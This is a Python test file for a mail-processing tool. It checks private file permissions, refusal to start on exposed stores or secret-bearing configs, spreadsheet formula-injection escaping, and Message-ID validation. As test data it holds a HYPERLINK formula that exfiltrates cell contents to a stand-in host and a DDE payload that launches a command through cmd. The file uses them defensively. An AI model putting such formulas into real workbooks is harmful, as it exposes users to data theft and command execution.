"""Issue 9, items 4 and 6: files mailbot keeps are private whatever the umask, it refuses to start
on a store (or a configuration holding a secret) that others can read, cells it writes to
workbooks never become formulas, and a malformed Message-ID is not trusted for deduplication.

Everything is real: a real umask of 0o022 set in the test (and put back), real SQLite files,
real Maildir folders, real .eml bytes, real .xlsx files read back with openpyxl. Nothing is mocked.
"""

from __future__ import annotations

import csv
import gc
import os
import shutil
import stat
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from mailbot import reports
from mailbot.cli import main
from mailbot.config import load_config
from mailbot.errors import ConfigError, StoreError
from mailbot.importer import read_rows
from mailbot.maildir import MaildirSink, MaildirSource
from mailbot.service import Mailbot, dedupe_key, trusted_message_id
from mailbot.shell import check_private_files
from store.db import open_store
from store.models import MessageRow

DEMO = Path(__file__).resolve().parents[1] / "mailbot" / "demo"
NOW = "2027-08-02T09:00"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Hostile text a spreadsheet would run: each is a reference or an IRO in an imported sheet.
EVIL_REF = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&A1,"OPEN")'
EVIL_IRO = "@sum(1+1)*cmd|' /c calc'!a0@evil.example"


@pytest.fixture
def umask_022():
    """The usual umask of a login shell, under which files come out 0644 unless made private."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def modes_under(folder: Path) -> dict[str, int]:
    """Every file and folder below ``folder`` with its mode."""
    return {str(p.relative_to(folder)): mode(p) for p in folder.rglob("*")}


def make_dir(tmp_path: Path, root: Path, name: str) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    shutil.copyfile(root / "config.yaml", folder / "config.yaml")
    return folder


def run(capsys, folder: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--config", str(folder / "config.yaml"), "--now", NOW, *args])
    out, err = capsys.readouterr()
    return code, out, err


# ------------------------------------------------------------------------ files are private


def test_a_new_store_and_its_wal_and_shm_are_private_whatever_the_umask(umask_022, tmp_path: Path) -> None:
    tmp_path.chmod(0o755)  # a folder that exists keeps the mode its owner gave it
    database = tmp_path / "data" / "deeper" / "mailbot.db"
    sessions = open_store(f"sqlite:///{database}")
    with sessions.begin() as session:  # a write, so that SQLite makes its -wal and -shm files
        session.add(MessageRow(dedupe_key="sha256:x", message_id=None, direction="in", status="received",
                               raw=b"x", received_at=datetime(2027, 5, 4, 9, 0, tzinfo=timezone.utc)))
    with sessions() as session:
        assert session.scalar(select(func.count(MessageRow.id))) == 1
        # While a connection is open, the -wal and -shm files exist beside the database.
        assert modes_under(tmp_path) == {
            "data": 0o700, "data/deeper": 0o700, "data/deeper/mailbot.db": 0o600,
            "data/deeper/mailbot.db-wal": 0o600, "data/deeper/mailbot.db-shm": 0o600,
        }
    assert mode(tmp_path) == 0o755


def test_maildir_folders_messages_and_the_reasons_log_are_private(umask_022, tmp_path: Path) -> None:
    raw = (DEMO / "a1-informal.eml").read_bytes()
    source = MaildirSource(tmp_path / "mail")
    kept, shunted = source.deliver(raw), source.deliver(raw + b"\n")
    source.mark_processed(kept)
    source.mark_quarantined(shunted, "unreadable message")
    sink = MaildirSink(tmp_path / "outbox")
    from email import message_from_bytes, policy

    sent = sink.send(message_from_bytes(raw, policy=policy.default))
    found = modes_under(tmp_path)
    files = {name for name in found if (tmp_path / name).is_file()}
    assert {f"mail/.processed/new/{kept}", f"mail/.quarantine/new/{shunted}", "mail/.quarantine/reasons.log",
            "mail/.processed/maildirfolder", f"outbox/new/{sent}"} <= files
    assert {name: m for name, m in found.items() if m != (0o600 if name in files else 0o700)} == {}
    assert (tmp_path / "mail" / ".processed" / "new" / kept).read_bytes() == raw  # bytes unchanged


def test_exports_and_reports_written_with_out_are_private(umask_022, capsys, tmp_path: Path, root: Path) -> None:
    folder = make_dir(tmp_path, root, "bot")
    stale = tmp_path / "out" / "q.csv"
    stale.parent.mkdir()
    stale.write_text("old")
    assert mode(stale) == 0o644
    targets = {"digest": tmp_path / "out" / "d.html", "quarterly": tmp_path / "out" / "q.xlsx"}
    assert run(capsys, folder, "report", "digest", "--out", str(targets["digest"]))[0] == 0
    assert run(capsys, folder, "report", "quarterly", "--period", "2027Q2", "--out", str(targets["quarterly"]))[0] == 0
    assert run(capsys, folder, "report", "quarterly", "--period", "2027Q2", "--out", str(stale))[0] == 0
    code, out, err = run(capsys, folder, "report", "monthly", "--out", str(tmp_path / "out" / "monthly"))
    assert code == 0, err
    monthly = sorted((tmp_path / "out" / "monthly").iterdir())
    assert monthly, out  # the embedded default has operational managers to write to
    assert mode(tmp_path / "out" / "monthly") == 0o700
    for path in [*targets.values(), stale, *monthly]:
        assert mode(path) == 0o600, path
    assert stale.read_text(encoding="utf-8").startswith("Reference,")  # replaced whole, not appended
    assert not [p for p in (tmp_path / "out").iterdir() if p.name.startswith(".")]  # no temporary left
    # And everything mailbot made passes its own start-up check.
    assert run(capsys, folder, "alerts")[0] == 0
    assert mode(folder / "var") == 0o700 and mode(folder / "var" / "mailbot.db") == 0o600


# ------------------------------------------------------------------------ refusing to start


@pytest.fixture
def store_folder(umask_022, capsys, tmp_path: Path, root: Path) -> Path:
    """A configuration folder whose store mailbot has created (private) and used once."""
    folder = make_dir(tmp_path, root, "bot")
    code, _, err = run(capsys, folder, "ingest", str(DEMO / "a1-informal.eml"))
    assert code == 0, err
    gc.collect()  # close that command's connections now, so SQLite's -wal/-shm stay as they are
    return folder


@pytest.mark.parametrize("command", [["alerts"], ["status"], ["db", "upgrade"], ["run", "--once"]])
@pytest.mark.parametrize("target, bad, fix", [
    ("var/mailbot.db", 0o644, "600"),
    ("var/mailbot.db", 0o620, "600"),
    ("var", 0o755, "700"),
])
def test_a_store_others_can_read_or_write_stops_every_command(store_folder: Path, capsys, command, target, bad,
                                                               fix) -> None:
    path = store_folder / target
    path.chmod(bad)
    before = modes_under(store_folder)
    code, out, err = run(capsys, store_folder, *command)
    assert code == 2 and out == ""
    assert err == (f"mailbot: error: store: {path} is {'readable' if bad & 0o044 else 'writable'} by group"
                   f"{' and others' if bad & 0o004 else ''} (mode {bad:04o}); fix it with: chmod {fix} {path}\n")
    assert modes_under(store_folder) == before  # nothing was opened, made or changed
    path.chmod(int(fix, 8))
    assert run(capsys, store_folder, *command)[0] == 0


def test_a_wal_file_others_can_read_stops_mailbot(store_folder: Path, capsys) -> None:
    wal = store_folder / "var" / "mailbot.db-wal"
    wal.write_bytes(b"")  # as a crash leaves it; SQLite replays or discards it at the next open
    wal.chmod(0o644)
    code, _, err = run(capsys, store_folder, "alerts")
    assert code == 2 and f"{wal} is readable by group and others (mode 0644)" in err and err.count("\n") == 1


def test_execute_alone_on_the_store_folder_is_allowed(store_folder: Path, capsys) -> None:
    (store_folder / "var").chmod(0o711)  # others may pass through to a name they know, not list or read
    assert run(capsys, store_folder, "alerts")[0] == 0


def _with_store_url(folder: Path, url: str) -> Path:
    path = folder / "config.yaml"
    data = yaml.safe_load(path.read_text())
    data["store"] = {"url": url}
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def test_a_config_holding_a_database_password_must_be_private(umask_022, capsys, tmp_path: Path, root: Path) -> None:
    folder = make_dir(tmp_path, root, "bot")
    # Port 9 on loopback: if the check let it through, connecting would fail, not hang.
    path = _with_store_url(folder, "postgresql+psycopg://mailbot:s3cret@127.0.0.1:9/mailbot")
    assert mode(path) == 0o644
    code, out, err = run(capsys, folder, "alerts")
    assert code == 2 and out == ""
    assert err == (f"mailbot: error: the configuration holds a secret (store.url): {path} is readable by group "
                   f"and others (mode 0644); fix it with: chmod 600 {path}\n")
    assert "s3cret" not in err
    path.chmod(0o600)
    check_private_files(load_config(path))  # private now: no complaint (PostgreSQL has no store file to check)


@pytest.mark.parametrize("url, refused", [
    ("postgresql+psycopg://mailbot@db.council.example/mailbot", False),  # password from the environment
    ("postgresql+psycopg://mailbot@db.council.example/mailbot?password=s3cret", True),
    ("sqlite:///var/mailbot.db", False),
])
def test_only_a_config_that_holds_a_secret_is_checked(umask_022, tmp_path: Path, root: Path, url, refused) -> None:
    config = load_config(_with_store_url(make_dir(tmp_path, root, "bot"), url))
    if refused:
        with pytest.raises(ConfigError, match="chmod 600"):
            check_private_files(config)
    else:
        check_private_files(config)  # 0644 is fine for a file without secrets


def test_the_check_reads_the_store_the_config_names(umask_022, tmp_path: Path, root: Path) -> None:
    folder = make_dir(tmp_path, root, "bot")
    elsewhere = tmp_path / "shared" / "x.db"
    elsewhere.parent.mkdir()
    elsewhere.write_bytes(b"")
    config = load_config(_with_store_url(folder, f"sqlite:///{elsewhere}"))
    with pytest.raises(StoreError, match=f"{elsewhere.parent} is readable by group and others"):
        check_private_files(config)


# ------------------------------------------------------------------------ cells never become formulas


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=", "'=1", "''x", "'-"])
def test_text_a_spreadsheet_would_run_is_escaped_and_comes_back_exactly(value: str) -> None:
    written = reports.safe_cell(value)
    assert written.startswith("'") and not written.startswith(TRIGGERS)
    assert reports.plain_cell(written) == value


@pytest.mark.parametrize("value", [-5, 3.5, -0.25, 0, None, date(2027, 5, 4), "Sam Okafor", "DRP-2027-0001",
                                   "it's fine", "a=b", ""])
def test_numbers_dates_and_plain_text_are_written_as_they_are(value) -> None:
    assert reports.safe_cell(value) == value
    assert reports.plain_cell(value) == value


def _import_hostile_sheet(capsys, folder: Path, sheet: Path) -> None:
    mapping = folder / "mapping.yaml"
    mapping.write_text(yaml.safe_dump({
        "columns": {"reference": "Reference", "child_ids": "Child ID", "raised": "Date raised",
                    "process": "Process", "iro": "IRO", "team": "Team"},
        "date_formats": ["%Y-%m-%d"],
    }))
    code, out, err = run(capsys, folder, "import", str(sheet), "--mapping", str(mapping))
    assert code == 0, out + err


def test_hostile_text_imported_from_a_sheet_never_becomes_a_live_formula(capsys, tmp_path: Path, root: Path) -> None:
    folder = make_dir(tmp_path, root, "bot")
    sheet = tmp_path / "before.csv"
    with sheet.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Reference", "Child ID", "Date raised", "Process", "IRO", "Team"])
        writer.writerow([EVIL_REF, "1200101", "2027-05-04", "lac", EVIL_IRO, "Children in Care North"])
        writer.writerow(["LBC-0102", "1200102", "2027-05-05", "lac", "Sam Okafor", "Children in Care North"])
    _import_hostile_sheet(capsys, folder, sheet)
    xlsx, log = tmp_path / "q.xlsx", tmp_path / "q.csv"
    for out in (xlsx, log):
        code, _, err = run(capsys, folder, "report", "quarterly", "--period", "2027Q2", "--out", str(out))
        assert code == 0, err

    book = load_workbook(xlsx)  # formulas as formulas: nothing here may be one
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    assert "'" + EVIL_REF in texts and "'" + EVIL_IRO in texts  # kept, as text, escaped once

    with log.open(newline="", encoding="utf-8") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert "'" + EVIL_REF in cells and "'" + EVIL_IRO in cells
    assert not [value for value in cells if value.startswith(TRIGGERS)]

    # mailbot's own export read back gives the text as it was, not the escaped text.
    _, rows = read_rows(log)
    assert [(r["Reference"], r["IRO"]) for _, r in rows if r["Reference"] != "LBC-0102"] == [(EVIL_REF, EVIL_IRO)]


def test_the_importer_reads_a_formula_as_its_text_not_its_result(capsys, tmp_path: Path, root: Path) -> None:
    book = Workbook()
    ws = book.active
    ws.append(["Reference", "Child ID", "Date raised", "Process", "IRO", "Team"])
    ws.append(["LBC-0201", 1200201, "2027-05-04", "lac", '=CONCAT("x","@evil.example")', "Children in Care North"])
    ws.append(["LBC-0202", 1200202, "=TODAY()", "lac", "Sam Okafor", "Children in Care North"])
    sheet = tmp_path / "before.xlsx"
    book.save(sheet)
    assert load_workbook(sheet)["Sheet"]["E2"].data_type == "f"  # a real formula cell in a real workbook

    _, rows = read_rows(sheet)
    assert rows[0][1]["IRO"] == '=CONCAT("x","@evil.example")' and rows[1][1]["Date raised"] == "=TODAY()"

    folder = make_dir(tmp_path, root, "bot")
    mapping = folder / "mapping.yaml"
    mapping.write_text(yaml.safe_dump({
        "columns": {"reference": "Reference", "child_ids": "Child ID", "raised": "Date raised",
                    "process": "Process", "iro": "IRO", "team": "Team"},
        "date_formats": ["%Y-%m-%d"],
    }))
    code, out, _ = run(capsys, folder, "import", str(sheet), "--mapping", str(mapping), "--dry-run")
    assert code == 1
    assert "would create: LBC-0201" in out
    assert "row 3: date raised '=TODAY()' is a formula" in out


# ------------------------------------------------------------------------ Message-ID and deduplication


def _with_message_id(eml: str, message_id: str, subject_suffix: str = "") -> bytes:
    """A demo message (CRLF, as Outlook writes it) with its Message-ID header replaced."""
    raw = (DEMO / eml).read_bytes()
    head, sep, body = raw.partition(b"\r\n\r\n")
    assert sep, "the demo messages end their lines with CRLF"
    lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"message-id:")]
    if subject_suffix:
        lines = [line + subject_suffix.encode() if line.startswith(b"Subject:") else line for line in lines]
    return b"\r\n".join([*lines, b"Message-ID: " + message_id.encode()]) + sep + body


@pytest.mark.parametrize("header, trusted", [
    ("<a1.3197@luton.example.gov.uk>", "a1.3197@luton.example.gov.uk"),
    ("<a@[10.0.0.1]>", "a@[10.0.0.1]"),
    ("a1.3197@luton.example.gov.uk", None),  # no angle brackets
    ("<a1-informal>", None),  # no "@"
    ("<a1 x@luton.example.gov.uk>", None),  # a space
    ("<a1\x01x@luton.example.gov.uk>", None),  # a control character
    ("<a..b@luton.example.gov.uk>", None),  # not a dot-atom
    ("<" + "a" * 240 + "@luton.example.gov.uk>", None),  # unbounded
])
def test_only_a_valid_msg_id_is_trusted(header: str, trusted: str | None) -> None:
    assert trusted_message_id(_with_message_id("a1-informal.eml", header)) == trusted


def test_two_message_id_headers_are_not_trusted() -> None:
    raw = _with_message_id("a1-informal.eml", "<a@b.example>").replace(
        b"\r\n\r\n", b"\r\nMessage-ID: <c@d.example>\r\n\r\n", 1)
    assert trusted_message_id(raw) is None
    assert dedupe_key("a@b.example", raw).startswith("sha256:")


@pytest.mark.parametrize("variant", [
    b"Message-ID: <a1.3197@luton.example.gov.uk>",
    b"Message-ID:\r\n <a1.3197@luton.example.gov.uk>",  # folded
    b"Message-ID: <a1.3197@luton.example.gov.uk>\r\nMessage-ID: <c@d.example>",  # two
    b"Message-ID: <a1.3197@luton.example.gov.uk>\r\nMessage-Id: <a1.3197@luton.example.gov.uk>",
    b"Message-ID: <a1.3197\xe9@luton.example.gov.uk>",  # 8-bit bytes
    b"Message-ID: <a1 x@luton.example.gov.uk>",
    b"Message-ID : <a1.3197@luton.example.gov.uk>",  # a blank before the colon
    b"X-Other: 1",  # none
])
def test_the_worker_keys_a_message_as_its_head_parsed_again_would(variant: bytes) -> None:
    # The reading worker keys a message from the Message-ID headers the parser read
    # (Envelope.message_id_headers) instead of parsing its head a second time: the same key.
    from parsers import ParseRules, parse_message

    raw = _with_message_id("a1-informal.eml", "<placeholder@x.example>")
    raw = raw.replace(b"Message-ID: <placeholder@x.example>", variant)
    envelope = parse_message(raw, ParseRules()).envelope
    assert dedupe_key(envelope.message_id, raw, envelope.message_id_headers) == dedupe_key(envelope.message_id, raw)


@pytest.mark.parametrize("bad_id", ["drp-note@luton", "<drp-note>"])
def test_different_messages_sharing_an_invalid_message_id_are_both_handled(tmp_path: Path, root: Path,
                                                                             bad_id: str) -> None:
    (tmp_path / "config.yaml").write_text((root / "config.yaml").read_text())
    bot = Mailbot(load_config(tmp_path / "config.yaml"))
    first = _with_message_id("a1-informal.eml", bad_id)
    second = _with_message_id("a1-informal.eml", bad_id, subject_suffix=" (second child)")
    now = datetime.fromisoformat("2027-04-29T09:15:00+01:00")
    results = [bot.ingest(raw, now) for raw in (first, second, first)]
    assert [r.duplicate for r in results] == [False, False, True]
    assert results[0].alert and results[1].alert and results[0].alert != results[1].alert
    assert results[2].alert == results[0].alert  # the same bytes twice: handled once
    assert len(bot.alerts()) == 2
    with bot.sessions() as session:
        keys = session.scalars(select(MessageRow.dedupe_key).where(MessageRow.direction == "in")).all()
    assert len(keys) == 2 and all(k.startswith("sha256:") for k in keys)


def test_a_valid_message_id_still_dedupes_a_redelivery_with_other_bytes(tmp_path: Path, root: Path) -> None:
    (tmp_path / "config.yaml").write_text((root / "config.yaml").read_text())
    bot = Mailbot(load_config(tmp_path / "config.yaml"))
    raw = (DEMO / "a1-informal.eml").read_bytes()
    now = datetime.fromisoformat("2027-04-29T09:15:00+01:00")
    first = bot.ingest(raw, now)
    again = bot.ingest(b"Received: from relay.example by mx.example; Thu, 29 Apr 2027 09:11:00 +0100\n" + raw, now)
    assert not first.duplicate and again.duplicate and again.alert == first.alert
    assert len(bot.alerts()) == 1
